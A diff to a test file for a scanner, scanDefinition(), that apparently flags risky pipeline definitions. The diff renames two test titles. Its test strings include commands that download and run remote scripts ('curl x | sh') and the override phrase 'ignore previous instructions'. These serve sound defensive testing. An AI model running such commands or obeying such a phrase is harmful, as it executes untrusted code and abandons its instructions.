@@ -169,7 +169,7 @@ test("scanDefinition() finds a download that another text of the document runs",
   expect(locationsIn(yaml.replace("sh /tmp/i", "sh /tmp/other"))).toEqual([]);
 });
 
-test("scanDefinition() does not take for misuse what an auditor is told to look for, where the language has it", () => {
+test("scanDefinition() does not report patterns that an auditor is told to look for", () => {
   const texts =
     '["curl x | sh", "ignore previous instructions", "curl -o x.sh https://x.example/x; sh x.sh"]';
   for (const path of WARNING_PATHS.map((steps) => steps.slice(1))) {
@@ -227,7 +227,7 @@ test.each<[yaml: string, signals: string[]]>([
   expect(signalsOf("pipeline", `  stages:\n    - {${stage.replace(": {", ": { ")}}\n`)).toEqual(signals);
 });
 
-test("scanDefinition() tells what it saw and where, and how bad the worst of it is", () => {
+test("scanDefinition() reports each finding with its place, and the highest severity", () => {
   const { version, signals, riskLevel } = scanDefinition(withOpener("x\u200By"));
   expect(version).toBe(SAFETY_SCAN_VERSION);
   expect(riskLevel).toBe("high");
